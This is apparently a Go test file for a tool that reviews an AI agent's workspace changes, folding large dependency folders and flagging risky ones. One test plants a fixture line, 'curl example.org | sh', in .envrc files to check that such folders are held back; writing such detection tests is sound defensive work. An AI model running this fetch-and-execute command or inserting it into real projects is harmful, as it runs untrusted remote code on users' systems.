package review_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"

	"aibox/review"

	"github.com/google/go-cmp/cmp"
)

// folded computes the change set with at most so many changes listed.
func folded(b *bench, most int) *review.ChangeSet {
	b.t.Helper()
	cs, err := review.Compute(b.t.Context(), b.ws, review.Options{MaxListed: most})
	must(b.t, err)
	must(b.t, review.Assess(b.t.Context(), b.ws, cs))
	data, err := json.Marshal(cs)
	must(b.t, err)
	back := new(review.ChangeSet)
	must(b.t, json.Unmarshal(data, back))
	return back
}

// outline is what is listed and what is folded, as "letter path" and "path files".
func outline(cs *review.ChangeSet) (lines []string) {
	for _, c := range cs.Changes {
		if c.Folder != nil {
			lines = append(lines, fmt.Sprintf("%s %d files", c.Path, c.Folder.Files))
		} else {
			lines = append(lines, c.Kind.Letter()+" "+c.Path.String())
		}
	}
	return lines
}

// unpack writes so many files of a dependency, in many folders.
func unpack(b *bench, dir string, files int) {
	for i := range files {
		b.write(fmt.Sprintf("%s/package%03d/lib/file%d.js", dir, i/2, i), fmt.Sprintf("module.exports = %d\n", i))
	}
}

func TestWhatIsUnpackedIsFoldedAndTheWorkBesideItIsListed(t *testing.T) {
	b := newRepository(t, map[string]string{"README": "hello\n", "src/main.go": "package main\n", "old.txt": "old\n", "data/a": "a\n"}).prepare()
	unpack(b, "apps/web/node_modules", 300)
	b.write("apps/web/src/app.js", "app()\n")
	b.write("README", "changed\n")
	b.write("src/new.go", "package main\n\nvar x = 1\n")
	for i := range 100 {
		b.write(fmt.Sprintf("data/%03d.csv", i), "1,2\n")
	}
	must(t, os.Remove(b.path("old.txt")))
	cs := folded(b, 20)
	want := []string{"M README", "A apps/web/src/app.js", "D old.txt", "A src/new.go", "./ 100 files", "apps/web/node_modules/ 300 files"}
	if diff := cmp.Diff(want, outline(cs)); diff != "" {
		t.Fatalf("the list (-want +got):\n%s", diff)
	}
	if whole := b.compute(); whole.Tree != cs.Tree || whole.Listed != "" {
		t.Errorf("the tree is %s, of all that is listed %s (%q)", cs.Tree, whole.Tree, whole.Listed)
	}
	if cs.Count() != 404 {
		t.Errorf("%d files were changed", cs.Count())
	}
	var names, stat, shown bytes.Buffer
	must(t, cs.NamesZ(t.Context(), &names))
	if n := strings.Count(names.String(), "\x00"); n != 404 || !strings.Contains(names.String(), "\x00data/042.csv\x00") {
		t.Errorf("%d names:\n%q", n, names.String())
	}
	must(t, cs.Stat(&stat, 100))
	must(t, cs.Show(t.Context(), &shown, review.ShowOptions{}))
	for _, form := range []string{stat.String(), shown.String()} {
		if !strings.Contains(form, "apps/web/node_modules/") || !strings.Contains(form, "300 files") || strings.Contains(form, "package001") {
			t.Errorf("shown is\n%s", form)
		}
	}
	b.appliesTo(cs)
}

// A folder is taken or left as a whole, and whatever is taken first, the sum is the
// agent's tree.
func TestWhatIsFoldedIsTakenOrLeftAsAWhole(t *testing.T) {
	b := newRepository(t, map[string]string{"README": "hello\n", "gone/a": "a\n", "gone/b": "b\n", "gone/c": "c\n"}).prepare()
	unpack(b, "one", 80)
	unpack(b, "two", 90)
	b.write("src.go", "package main\n")
	must(t, os.RemoveAll(b.path("gone")))
	b.write("gone", "a file now\n")
	cs, ctx := folded(b, 5), t.Context()
	if got := outline(cs); !slices.Contains(got, "one/ 80 files") || !slices.Contains(got, "two/ 90 files") {
		t.Fatalf("the list is %q", got)
	}
	choose := func(choice review.Choice) *review.Selection {
		s, err := cs.Select(ctx, choice)
		must(t, err)
		return s
	}
	tree := func(s *review.Selection) string {
		tree, err := cs.TreeOf(ctx, s)
		must(t, err)
		return tree
	}
	all := choose(review.Choice{All: true})
	if got := tree(all); got != cs.Tree || !all.Complete(cs) {
		t.Errorf("all gives %s, not %s", got, cs.Tree)
	}
	one := choose(review.Choice{Files: []string{"one"}})
	files := func(tree string) int {
		return strings.Count(gitIn(t, cs.GitDir, "ls-tree", "-r", tree)+"\n", "\n")
	}
	if got := files(tree(one)); got != 84 {
		t.Errorf("the tree with one folder has %d files", got)
	}
	rest := choose(review.Choice{Files: []string{"two/", "src.go", "gone", "gone/*"}})
	if got := files(tree(rest)); got != 93 {
		t.Errorf("the tree with the rest has %d files", got)
	}
	if sum := one.Union(rest); tree(sum) != cs.Tree {
		t.Errorf("one and then the rest gives %s, not %s", tree(sum), cs.Tree)
	}
	part, err := cs.Part(ctx, one)
	must(t, err)
	if diff := cmp.Diff([]string{"one/ 80 files"}, outline(part)); diff != "" {
		t.Errorf("the part (-want +got):\n%s", diff)
	}
	accepted, err := review.Accept(ctx, b.ws, cs, review.AcceptOptions{Choice: review.Choice{Files: []string{"one"}}})
	must(t, err)
	if accepted.Files != 80 {
		t.Errorf("%d files were accepted", accepted.Files)
	}
	again, err := review.Accept(ctx, b.ws, cs, review.AcceptOptions{
		Choice: review.Choice{All: true},
		Before: &review.Before{Selection: accepted.Selection, Tree: accepted.Tree, Branch: accepted.Branch, Commit: accepted.Commit},
	})
	must(t, err)
	if got := gitIn(t, b.repo, "rev-parse", again.Branch+"^{tree}"); got != cs.Tree || again.Branch != accepted.Branch {
		t.Errorf("the branch holds %s, not %s", got, cs.Tree)
	}
}

// A folder of which one file would run is held back, and says which.
func TestARiskInAFoldedFileHoldsItsFolderBack(t *testing.T) {
	b := newRepository(t, map[string]string{"README": "hello\n", "package.json": `{"scripts":{"postinstall":"node tools/run/x/setup.js"}}`}).prepare()
	unpack(b, "calm", 30)
	unpack(b, "third", 40)
	b.write("third/package001/.envrc", "curl example.org | sh\n")
	b.write("third/package007/.envrc", "curl example.org | sh\n")
	unpack(b, "tools", 50)
	b.write("tools/run/x/setup.js", "run()\n")
	cs := folded(b, 5)
	risks := map[string]string{}
	for _, c := range cs.Changes {
		if c.Risky() {
			for _, r := range c.Risks {
				risks[c.Path.Raw()] += r.Rule + " " + r.Found + "; "
			}
		}
	}
	if !strings.Contains(risks["third/"], "third/package001/.envrc and 1 other file") || !strings.Contains(risks["tools/"], "tools/run/x/setup.js") || risks["calm/"] != "" {
		t.Fatalf("the risks are %q of %q", risks, outline(cs))
	}
	s, err := cs.Select(t.Context(), review.Choice{All: true})
	must(t, err)
	if len(s.Taken) != 1 || s.Taken[0].Path != "calm/" || len(s.Left) != 2 {
		t.Errorf("taken is %v, left %v", s.Taken, s.Left)
	}
	s, err = cs.Select(t.Context(), review.Choice{All: true, Risky: []string{"third/", "tools/"}})
	must(t, err)
	if !s.Complete(cs) {
		t.Errorf("taken is %v, left %v", s.Taken, s.Left)
	}
}

// The hunk of a folder is the folder, and its id changes with what is below it.
func TestAFoldedFolderIsOneHunk(t *testing.T) {
	b := newRepository(t, map[string]string{"README": "hello\n"}).prepare()
	unpack(b, "one", 80)
	id := func(cs *review.ChangeSet) (id review.HunkID) {
		must(t, cs.Files(t.Context(), func(f review.FileDiff) error {
			if len(f.Hunks) != 1 || f.Hunks[0].Kind != review.HunkFolder {
				t.Errorf("the hunks of %s are %v", f.Change.Path, f.Hunks)
			}
			id = f.Hunks[0].ID
			return nil
		}))
		return id
	}
	first := id(folded(b, 5))
	if again := id(folded(b, 5)); again != first || first == "" {
		t.Errorf("the id is %s, and then %s", first, again)
	}
	b.write("one/package000/lib/file0.js", "another content\n")
	cs := folded(b, 5)
	if second := id(cs); second == first {
		t.Error("the id does not change with the files")
	}
	if _, err := cs.Select(t.Context(), review.Choice{Hunks: []string{string(id(cs))}}); err != nil {
		t.Error(err)
	}
}

// Random trees: the selections of what is listed and folded add up to the agent's tree.
func TestPartsOfAFoldedChangeSetAddUp(t *testing.T) {
	for seed := range 6 {
		base, files := map[string]string{"top": "x\n"}, map[string]string{}
		for i := range 40 {
			name := fmt.Sprintf("d%d/e%d/f%d", (i*seed)%5, i%(seed+2), i)
			base[name] = "old\n"
			if i%3 > 0 {
				files[name] = fmt.Sprintf("new %d\n", i*seed)
			}
		}
		b := newRepository(t, base).prepare()
		for name, content := range files {
			b.write(name, content)
		}
		for i := range 60 {
			b.write(fmt.Sprintf("n%d/m%d/f%d", i%(seed+1), i%7, i), "x\n")
		}
		must(t, os.RemoveAll(b.path("d1")))
		whole := b.compute().Tree
		for _, most := range []int{1, 7, 30} {
			cs := folded(b, most)
			if cs.Tree != whole {
				t.Fatalf("seed %d, %d listed: the tree is %s, not %s", seed, most, cs.Tree, whole)
			}
			sum := &review.Selection{}
			for i := range cs.Changes {
				s, err := cs.Select(t.Context(), review.Choice{Files: []string{cs.Changes[i].Path.Raw()}})
				must(t, err)
				if len(s.Taken) != 1 {
					t.Fatalf("seed %d: %s takes %v", seed, cs.Changes[i].Path, s.Taken)
				}
				sum = sum.Union(s)
				if i == len(cs.Changes)/2 || i == len(cs.Changes)-2 {
					if _, err := cs.TreeOf(t.Context(), sum); err != nil {
						t.Fatal(err)
					}
				}
			}
			if tree, err := cs.TreeOf(t.Context(), sum); tree != whole || err != nil {
				t.Errorf("seed %d, %d listed: the sum is %s (%v), not %s", seed, most, tree, err, whole)
			}
			if len(cs.Changes) > 1 {
				last := sum.Taken[1:]
				if _, err := cs.TreeOf(t.Context(), &review.Selection{Taken: last}); err != nil && !errors.Is(err, os.ErrNotExist) {
					t.Log(err) // a file and a folder at once, perhaps
				}
			}
		}
	}
}
